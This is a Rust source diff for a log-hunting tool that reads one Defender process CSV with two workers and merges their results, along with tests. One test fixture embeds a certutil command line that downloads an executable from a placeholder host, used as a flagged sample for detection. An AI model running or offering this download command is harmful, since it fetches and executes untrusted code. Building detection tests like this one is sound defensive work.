@@ -1,0 +1,685 @@
+//! One big CSV file read by two workers (issue 15): the page's half of
+//! [`cmdhunt_core::split`], free of browser APIs so it tests natively.
+//!
+//! The bridge starts the first range's worker on `[0, boundary)` and the
+//! second's on the header then `[boundary, end)` (both the file's one job),
+//! and passes every message of either through a [`SplitJob`], which turns
+//! them into the messages *one* worker reading the whole file would have
+//! sent, so the reducer ([`crate::state`]) sees a single stream:
+//!
+//! * The first range's `Rows` and `Progress` go through as they are: its
+//!   account is the account of the file's first bytes.
+//! * The second range's rows are held (and its latest account kept) until
+//!   the first range is done and its seam held ([`FromWorker::RangeRead`]);
+//!   then they are shifted into the file's positions ([`Shift`]) and sent,
+//!   and every account after that is [`split::merge`] of the first range's
+//!   final summary and the second's latest account, so each `Progress` is
+//!   still the account of a prefix `[0, N)` of the file and follows every
+//!   row it counts. A cancel keeps the last one: "cancelled at byte N" means
+//!   the first N bytes, exactly as with one worker (work the second range
+//!   did beyond the first range's progress is dropped with it).
+//! * The second range's `Done` is merged with the first's into the file's
+//!   `Done` (summary, skips capped, positions shifted).
+//! * When the first range's seam does not hold (a quoted line break across
+//!   the boundary), its worker reads on to the end of the file, the second
+//!   worker is stopped ([`SplitOut::StopSecond`]) and its work dropped: the
+//!   first range's messages are then the whole file's.
+//! * The file's one progress bar: [`SplitOut::Read`] after every message, the
+//!   bytes both workers have read.
+
+use cmdhunt_core::scan::{FileSummary, FlaggedRow};
+use cmdhunt_core::split::{self, RangePart, Shift};
+
+use crate::protocol::{FieldBlock, FromWorker, RowDto};
+use crate::session::progress;
+
+/// What the page does for a split file's message.
+#[derive(Debug)]
+pub enum SplitOut {
+    /// Apply this message, as if from a single worker reading the whole file.
+    Message(FromWorker),
+    /// Both workers together have read this many of the file's bytes (the
+    /// file's progress bar).
+    Read(u64),
+    /// Stop the second range's worker: its work is not needed (the seam did
+    /// not hold, or the first range ended the file's scan).
+    StopSecond,
+}
+
+/// The page's account of one file read as two ranges.
+#[derive(Debug)]
+pub struct SplitJob {
+    job: u32,
+    size: u64,
+    /// The second range's first byte.
+    boundary: u64,
+    /// Header bytes the second range's decoder was fed first.
+    prefix: u64,
+    /// Line breaks in those bytes.
+    prefix_newlines: u64,
+    /// The first range read its bytes and its seam held: its line breaks.
+    first_newlines: Option<u64>,
+    /// The first range's seam did not hold: it reads the whole file.
+    rescan: bool,
+    /// The first range's final summary (seam held).
+    first_done: Option<FileSummary>,
+    /// The file's `Done` has been sent.
+    finished: bool,
+    /// Bytes each range has read (the second's without its header).
+    read: [u64; 2],
+    /// The second range's rows, held until the first range is done.
+    held: Vec<(Vec<RowDto>, FieldBlock)>,
+    /// The second range's latest account (its positions unshifted).
+    second_account: Option<FileSummary>,
+    /// The second range's final summary.
+    second_done: Option<FileSummary>,
+}
+
+impl SplitJob {
+    /// A file of `size` bytes, job `job`, split at `boundary`; the second
+    /// range's decoder is fed `header` (the file's bytes `[0, header_end)`)
+    /// first.
+    pub fn new(job: u32, size: u64, boundary: u64, header: &[u8]) -> Self {
+        SplitJob {
+            job,
+            size,
+            boundary,
+            prefix: header.len() as u64,
+            prefix_newlines: header.iter().filter(|&&b| b == b'\n').count() as u64,
+            first_newlines: None,
+            rescan: false,
+            first_done: None,
+            finished: false,
+            read: [0, 0],
+            held: Vec::new(),
+            second_account: None,
+            second_done: None,
+        }
+    }
+
+    /// The job both workers run.
+    pub fn job(&self) -> u32 {
+        self.job
+    }
+
+    /// Bytes both workers have read (what the progress bar shows).
+    pub fn bytes_read(&self) -> u64 {
+        if self.rescan {
+            self.read[0]
+        } else {
+            self.read[0] + self.read[1]
+        }
+    }
+
+    /// A message from range `range` (0: the first, 1: the second) of this
+    /// file: what to apply, in order.
+    pub fn receive(&mut self, range: usize, message: FromWorker) -> Vec<SplitOut> {
+        let mut out = Vec::new();
+        if self.finished {
+            return out;
+        }
+        if range == 0 {
+            self.first(message, &mut out);
+        } else if !self.rescan {
+            self.second(message, &mut out);
+        }
+        if !self.finished {
+            out.push(SplitOut::Read(self.bytes_read()));
+        }
+        out
+    }
+
+    fn first(&mut self, message: FromWorker, out: &mut Vec<SplitOut>) {
+        match message {
+            FromWorker::Progress { bytes, .. } => {
+                self.read[0] = bytes;
+                out.push(SplitOut::Message(message));
+            }
+            FromWorker::RangeRead { held, newlines, .. } => {
+                if held {
+                    self.first_newlines = Some(newlines);
+                } else {
+                    // The rescan: the first worker reads on to the end.
+                    self.rescan = true;
+                    self.held.clear();
+                    self.second_account = None;
+                    self.second_done = None;
+                    out.push(SplitOut::StopSecond);
+                }
+            }
+            FromWorker::Done { summary, .. } if self.first_newlines.is_some() && !self.rescan => {
+                let mut summary = *summary;
+                self.read[0] = summary.bytes;
+                if summary.error.is_some() {
+                    // The whole-file scan stops at the error too (and counts
+                    // every byte as read).
+                    summary.bytes = self.size;
+                    self.finish(summary, out);
+                    return;
+                }
+                // The first range's last rows came before: count them now.
+                out.push(SplitOut::Message(progress(self.job, &summary)));
+                self.first_done = Some(summary);
+                for (mut rows, fields) in std::mem::take(&mut self.held) {
+                    self.shift(&mut rows);
+                    out.push(SplitOut::Message(FromWorker::Rows {
+                        job: self.job,
+                        rows,
+                        fields,
+                    }));
+                }
+                if let Some(done) = self.second_done.take() {
+                    let merged = self.merged(done);
+                    self.finish(merged, out);
+                } else if let Some(account) = self.second_account.clone() {
+                    let merged = self.merged(account);
+                    out.push(SplitOut::Message(progress(self.job, &merged)));
+                }
+            }
+            FromWorker::Done { summary, .. } => {
+                // The whole file's (a rescan), or the first range stopped
+                // before its end (a read failure): the file's result.
+                let summary = *summary;
+                self.read[0] = summary.bytes;
+                self.finish(summary, out);
+            }
+            FromWorker::Panicked { .. } => {
+                self.finished = true;
+                out.push(SplitOut::Message(message));
+                out.push(SplitOut::StopSecond);
+            }
+            // Rows of the file's first bytes; validation never splits a file.
+            FromWorker::Rows { .. } | FromWorker::Validated { .. } => {
+                out.push(SplitOut::Message(message))
+            }
+        }
+    }
+
+    fn second(&mut self, message: FromWorker, out: &mut Vec<SplitOut>) {
+        match message {
+            FromWorker::Progress { .. } => {
+                let account = account(&message);
+                self.read[1] = account.bytes.saturating_sub(self.prefix);
+                if self.first_done.is_some() {
+                    let merged = self.merged(account.clone());
+                    out.push(SplitOut::Message(progress(self.job, &merged)));
+                }
+                self.second_account = Some(account);
+            }
+            FromWorker::Rows {
+                mut rows, fields, ..
+            } => {
+                if self.first_done.is_some() {
+                    self.shift(&mut rows);
+                    out.push(SplitOut::Message(FromWorker::Rows {
+                        job: self.job,
+                        rows,
+                        fields,
+                    }));
+                } else {
+                    self.held.push((rows, fields));
+                }
+            }
+            FromWorker::Done { summary, .. } => {
+                self.read[1] = summary.bytes.saturating_sub(self.prefix);
+                if self.first_done.is_some() {
+                    let merged = self.merged(*summary);
+                    self.finish(merged, out);
+                } else {
+                    self.second_done = Some(*summary);
+                }
+            }
+            FromWorker::Panicked { .. } => {
+                self.finished = true;
+                out.push(SplitOut::Message(message));
+            }
+            FromWorker::RangeRead { .. } | FromWorker::Validated { .. } => {}
+        }
+    }
+
+    /// Send the file's `Done`.
+    fn finish(&mut self, summary: FileSummary, out: &mut Vec<SplitOut>) {
+        self.finished = true;
+        out.push(SplitOut::Read(summary.bytes));
+        out.push(SplitOut::Message(FromWorker::Done {
+            job: self.job,
+            summary: Box::new(summary),
+        }));
+        out.push(SplitOut::StopSecond);
+    }
+
+    /// Where the second range's positions go in the file.
+    fn shift_of(&self) -> Shift {
+        let first = self.first_done.as_ref().map_or(0, |s| s.records);
+        Shift::new(
+            self.boundary,
+            self.prefix,
+            self.prefix_newlines,
+            first,
+            self.first_newlines.unwrap_or(0),
+        )
+    }
+
+    fn shift(&self, rows: &mut [RowDto]) {
+        let shift = self.shift_of();
+        for r in rows {
+            shift.position(&mut r.row.position);
+        }
+    }
+
+    /// The first range's final summary merged with `second` (the second
+    /// range's account so far, or its final summary).
+    fn merged(&self, second: FileSummary) -> FileSummary {
+        let first = self.first_done.clone().unwrap_or_default();
+        let first = RangePart {
+            bytes: first.bytes,
+            summary: first,
+            rows: Vec::new(),
+            start: 0,
+            prefix: 0,
+            prefix_newlines: 0,
+            newlines: self.first_newlines.unwrap_or(0),
+        };
+        let second = RangePart {
+            bytes: second.bytes.saturating_sub(self.prefix),
+            summary: second,
+            rows: Vec::<FlaggedRow>::new(),
+            start: self.boundary,
+            prefix: self.prefix,
+            prefix_newlines: self.prefix_newlines,
+            newlines: 0,
+        };
+        split::merge(first, second).0
+    }
+}
+
+/// The account a `Progress` carries, as a summary (what it does not carry,
+/// skips and times, left empty).
+fn account(message: &FromWorker) -> FileSummary {
+    match message {
+        FromWorker::Progress {
+            bytes,
+            records,
+            flagged,
+            format,
+            newest,
+            process_creations,
+            other_events,
+            shell,
+            flag_counts,
+            skipped,
+            ..
+        } => FileSummary {
+            format: format
+                .as_deref()
+                .and_then(cmdhunt_core::format::Format::from_name),
+            bytes: *bytes,
+            records: *records,
+            process_creations: *process_creations,
+            other_events: other_events.clone().into_iter().collect(),
+            shell: *shell,
+            flagged: *flagged,
+            flag_counts: *flag_counts,
+            skipped: *skipped,
+            newest: newest.map(cmdhunt_core::time::Timestamp),
+            ..FileSummary::default()
+        },
+        _ => FileSummary::default(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::protocol::full_rows;
+    use crate::session::ScanSession;
+    use crate::state::{Action, AppState, NewFile, Status};
+    use crate::testdata::{sample_csv, shared_data};
+    use cmdhunt_core::matcher::CompiledRule;
+    use cmdhunt_core::scan::FileScan;
+    use cmdhunt_core::split::Plan;
+
+    const JOB: u32 = 1;
+
+    /// The plan the bridge makes for `bytes` (head and middle window).
+    fn plan_of(bytes: &[u8]) -> Option<Plan> {
+        let size = bytes.len() as u64;
+        let head = &bytes[..bytes.len().min(split::HEAD_BYTES)];
+        let start = (size / 2).saturating_sub(1) as usize;
+        let end = bytes.len().min(start + split::WINDOW_BYTES);
+        split::plan(head, &bytes[start..end], start as u64, size)
+    }
+
+    /// What range `range`'s worker sends for `bytes` split by `plan`, in
+    /// `chunk`-byte pieces, one `Progress` per piece.
+    fn range_messages(bytes: &[u8], plan: &Plan, range: usize, chunk: usize) -> Vec<FromWorker> {
+        let rule = CompiledRule::new();
+        let boundary = plan.boundary as usize;
+        let mut out = Vec::new();
+        let mut t = 0.0;
+        let mut feed = |s: &mut ScanSession, data: &[u8], out: &mut Vec<FromWorker>| {
+            for c in data.chunks(chunk) {
+                t += 1000.0;
+                out.extend(s.push(c, t));
+            }
+        };
+        if range == 0 {
+            let mut s = ScanSession::new(&rule, JOB, 0, "test", None)
+                .expect("session")
+                .first_range(plan);
+            feed(&mut s, &bytes[..boundary], &mut out);
+            let (read, read_on) = s.end_range();
+            out.extend(read);
+            if read_on {
+                feed(&mut s, &bytes[boundary..], &mut out);
+            }
+            out.extend(s.finish());
+        } else {
+            let mut s = ScanSession::new(&rule, JOB, 0, "test", Some("csv"))
+                .expect("session")
+                .later_range(&bytes[..plan.header_end], plan.boundary);
+            feed(&mut s, &bytes[boundary..], &mut out);
+            out.extend(s.end_range().0);
+            out.extend(s.finish());
+        }
+        out
+    }
+
+    /// The two ranges' messages through a [`SplitJob`], delivered in the
+    /// order `prefer` gives (the range whose next message comes at step
+    /// `i`, when it has one left), and what the page applies.
+    fn through_split(
+        bytes: &[u8],
+        plan: &Plan,
+        chunk: usize,
+        prefer: fn(usize) -> usize,
+    ) -> Vec<SplitOut> {
+        let mut queues = [
+            range_messages(bytes, plan, 0, chunk).into_iter(),
+            range_messages(bytes, plan, 1, chunk).into_iter(),
+        ];
+        let header = &bytes[..plan.header_end];
+        let mut job = SplitJob::new(JOB, bytes.len() as u64, plan.boundary, header);
+        let mut out = Vec::new();
+        for i in 0.. {
+            let r = prefer(i);
+            let (m, from) = match (queues[r].next(), r) {
+                (Some(m), r) => (m, r),
+                (None, r) => match queues[1 - r].next() {
+                    Some(m) => (m, 1 - r),
+                    None => break,
+                },
+            };
+            out.extend(job.receive(from, m));
+        }
+        out
+    }
+
+    /// The core's account of the file's first `n` bytes.
+    fn prefix_account(bytes: &[u8], n: u64) -> FileSummary {
+        let rule = CompiledRule::new();
+        let mut scan = FileScan::new(&rule, 0, "test", None);
+        scan.push(&bytes[..n as usize]);
+        scan.summary().clone()
+    }
+
+    /// Check what the page applies for a split file: the rows (every field)
+    /// and the `Done` summary equal the core's whole-file scan; every
+    /// `Progress` follows exactly the rows it counts and (for up to
+    /// `prefix_checks` of them) equals the core's account of the file's
+    /// first `bytes` bytes (what a cancel keeps).
+    fn check(name: &str, bytes: &[u8], out: Vec<SplitOut>, prefix_checks: usize) {
+        let rule = CompiledRule::new();
+        let mut whole = FileScan::new(&rule, 0, "test", None);
+        whole.push(bytes);
+        let (want, want_rows) = whole.finish();
+        let mut rows: Vec<FlaggedRow> = Vec::new();
+        let mut done = None;
+        let mut progresses = Vec::new();
+        for o in out {
+            match o {
+                SplitOut::Message(m) => {
+                    assert!(done.is_none(), "{name}: nothing after Done");
+                    match m {
+                        FromWorker::Rows {
+                            rows: r, fields, ..
+                        } => rows.extend(full_rows(r, &fields)),
+                        FromWorker::Progress { .. } => {
+                            let a = account(&m);
+                            assert_eq!(a.flagged, rows.len() as u64, "{name}: counted rows");
+                            progresses.push(a);
+                        }
+                        FromWorker::Done { summary, .. } => done = Some(*summary),
+                        other => panic!("{name}: unexpected {other:?}"),
+                    }
+                }
+                SplitOut::Read(n) => assert!(n <= bytes.len() as u64, "{name}"),
+                SplitOut::StopSecond => {}
+            }
+        }
+        assert_eq!(done.as_ref(), Some(&want), "{name}: summary");
+        assert_eq!(rows, want_rows, "{name}: rows");
+        let step = progresses.len().div_ceil(prefix_checks.max(1)).max(1);
+        for p in progresses.iter().step_by(step) {
+            let core = prefix_account(bytes, p.bytes);
+            let core = FileSummary {
+                skips: Vec::new(),
+                first_bad_timestamp: None,
+                bad_timestamps: 0,
+                oldest: None,
+                error: None,
+                shell_times: Default::default(),
+                ..core
+            };
+            let p = FileSummary {
+                name: core.name.clone(),
+                ..p.clone()
+            };
+            assert_eq!(p, core, "{name}: the account at byte {}", p.bytes);
+        }
+    }
+
+    /// Orders of arrival: the first range's messages first, the second's
+    /// first, alternating, and mostly the second's.
+    const ORDERS: [fn(usize) -> usize; 4] = [|_| 0, |_| 1, |i| i % 2, |i| usize::from(i % 4 != 3)];
+
+    #[test]
+    fn a_split_file_gives_the_whole_files_rows_summary_and_accounts() {
+        let mut files: Vec<(String, Vec<u8>)> = vec![("sample".into(), sample_csv().to_vec())];
+        for name in [
+            "mde_proc_cs1.csv",
+            "advanced_hunting_test.csv",
+            "processes_on_host.csv",
+            "process_tree.csv",
+        ] {
+            if let Some(b) = shared_data(&format!("defender/{name}")) {
+                files.push((name.into(), b));
+            }
+        }
+        let mut split = 0;
+        for (name, bytes) in &files {
+            let Some(plan) = plan_of(bytes) else { continue };
+            split += 1;
+            for (i, order) in ORDERS.iter().enumerate() {
+                for chunk in [997, 65_536] {
+                    let out = through_split(bytes, &plan, chunk, *order);
+                    let checks = if bytes.len() > 1 << 20 { 4 } else { 40 };
+                    check(
+                        &format!("{name}, order {i}, chunk {chunk}"),
+                        bytes,
+                        out,
+                        checks,
+                    );
+                }
+            }
+        }
+        assert!(split >= 2, "{split} files split");
+    }
+
+    /// A CSV whose middle lies inside a quoted `ProcessCommandLine` full of
+    /// line breaks (a flagged one): the split's candidate boundary is
+    /// inside the quotes.
+    fn quoted_break_across_the_middle() -> Vec<u8> {
+        let sample = sample_csv();
+        let nl = sample.iter().position(|&b| b == b'\n').expect("a header") + 1;
+        let (header, body) = sample.split_at(nl);
+        let mut out = header.to_vec();
+        for _ in 0..3 {
+            out.extend_from_slice(body);
+        }
+        out.extend_from_slice(
+            b"2024-05-14T09:00:00Z,id,ws-1,ProcessCreated,cmd.exe,C:\\Windows\\System32\\cmd.exe,ab,7,\"cmd.exe /c certutil -urlcache -f http://x/a a.exe",
+        );
+        for i in 0..2_000 {
+            out.extend_from_slice(
+                format!("\nline {i} of a quoted, \"\"multi-line\"\" command").as_bytes(),
+            );
+        }
+        out.extend_from_slice(b"\",contoso,bob,explorer.exe,explorer.exe,userinit.exe,9\n");
+        for _ in 0..3 {
+            out.extend_from_slice(body);
+        }
+        out
+    }
+
+    #[test]
+    fn a_seam_inside_quotes_is_rescanned_by_the_first_range() {
+        let bytes = quoted_break_across_the_middle();
+        let plan = plan_of(&bytes).expect("a plan");
+        // The boundary is a line start inside the quoted field.
+        let before = &bytes[..plan.boundary as usize];
+        let quotes = before.iter().filter(|&&b| b == b'"').count();
+        assert!(quotes % 2 == 1, "the boundary is inside quotes");
+        for (i, order) in ORDERS.iter().enumerate() {
+            let out = through_split(&bytes, &plan, 4096, *order);
+            assert!(
+                out.iter().any(|o| matches!(o, SplitOut::StopSecond)),
+                "order {i}: the second worker is stopped"
+            );
+            check(&format!("quoted seam, order {i}"), &bytes, out, 40);
+        }
+        // Merging at that boundary would differ from the whole scan: the
+        // rescan is what makes the result right.
+        let rule = CompiledRule::new();
+        let mut whole = FileScan::new(&rule, 0, "test", None);
+        whole.push(&bytes);
+        let want = whole.finish().0;
+        let mut first =
+            cmdhunt_core::split::RangeScan::first(FileScan::new(&rule, 0, "test", None), &plan);
+        first.push(&bytes[..plan.boundary as usize]);
+        assert!(!first.at_record_start());
+        let mut second = cmdhunt_core::split::RangeScan::after(
+            FileScan::new(&rule, 0, "test", Some(cmdhunt_core::format::Format::Csv)),
+            &bytes[..plan.header_end],
+            plan.boundary,
+        );
+        second.push(&bytes[plan.boundary as usize..]);
+        assert_ne!(split::merge(first.finish(), second.finish()).0, want);
+    }
+
+    /// The page's state fed a split file's messages up to `upto`, then
+    /// cancelled: what it keeps.
+    fn cancelled_after(out: &[SplitOut], upto: usize, size: u64) -> AppState {
+        let mut state = AppState::default();
+        state.apply(Action::AddFiles(vec![NewFile::new("test", size)]));
+        let job = state.files[0].job;
+        state.apply(Action::Started { job, now_ms: 0.0 });
+        for o in &out[..upto] {
+            match o {
+                SplitOut::Message(m) => {
+                    let mut m = m.clone();
+                    set_job(&mut m, job);
+                    state.apply(Action::Worker(m, 1.0));
+                }
+                SplitOut::Read(bytes) => state.apply(Action::Read {
+                    job,
+                    bytes: *bytes,
+                    now_ms: 1.0,
+                }),
+                SplitOut::StopSecond => {}
+            }
+        }
+        state.apply(Action::Cancel(0));
+        state
+    }
+
+    fn set_job(m: &mut FromWorker, to: u32) {
+        match m {
+            FromWorker::Progress { job, .. }
+            | FromWorker::Rows { job, .. }
+            | FromWorker::Done { job, .. }
+            | FromWorker::Validated { job, .. }
+            | FromWorker::RangeRead { job, .. }
+            | FromWorker::Panicked { job, .. } => *job = to,
+        }
+    }
+
+    #[test]
+    fn a_split_file_cancelled_anywhere_keeps_the_cores_account_of_its_first_bytes() {
+        let Some(bytes) = shared_data("defender/mde_proc_cs1.csv") else {
+            return; // no shared data in this checkout
+        };
+        let plan = plan_of(&bytes).expect("a plan");
+        let size = bytes.len() as u64;
+        // The second range's messages mostly first (cancels land while its
+        // rows are held), and the first range's first (cancels land after
+        // it was merged, in the second range's bytes).
+        let (mut seen_held, mut seen_merged) = (false, false);
+        for order in [ORDERS[3], ORDERS[0]] {
+            let out = through_split(&bytes, &plan, 65_536, order);
+            for upto in (0..out.len())
+                .step_by(out.len() / 12 + 1)
+                .chain([out.len() - 2])
+            {
+                seen_held |= out[..upto]
+                    .iter()
+                    .any(|o| matches!(o, SplitOut::Read(n) if *n > plan.boundary))
+                    && !out[..upto]
+                        .iter()
+                        .any(|o| matches!(o, SplitOut::Message(FromWorker::Done { .. })));
+                let state = cancelled_after(&out, upto, size);
+                let f = &state.files[0];
+                let Status::Cancelled { at } = f.status else {
+                    panic!("cancelled: {:?}", f.status);
+                };
+                seen_merged |= at > plan.boundary;
+                let want = prefix_account(&bytes, at);
+                let got = f.summary.clone().expect("an account");
+                assert_eq!(
+                    (
+                        got.records,
+                        got.process_creations,
+                        got.shell,
+                        got.flagged,
+                        got.flag_counts,
+                        got.skipped
+                    ),
+                    (
+                        want.records,
+                        want.process_creations,
+                        want.shell,
+                        want.flagged,
+                        want.flag_counts,
+                        want.skipped
+                    ),
+                    "cancelled at byte {at} (message {upto})"
+                );
+                assert_eq!(
+                    state.rows.len() as u64,
+                    want.flagged,
+                    "rows kept at byte {at}"
+                );
+                let rule = CompiledRule::new();
+                let mut core = FileScan::new(&rule, 0, "test", None);
+                core.push(&bytes[..at as usize]);
+                let core_rows: Vec<_> = core.take_rows().into_iter().map(|r| r.position).collect();
+                let rows: Vec<_> = state.rows.iter().map(|r| r.position).collect();
+                assert_eq!(rows, core_rows, "positions at byte {at}");
+            }
+        }
+        assert!(
+            seen_held && seen_merged,
+            "cancels while held ({seen_held}) and after the merge ({seen_merged})"
+        );
+    }
+}
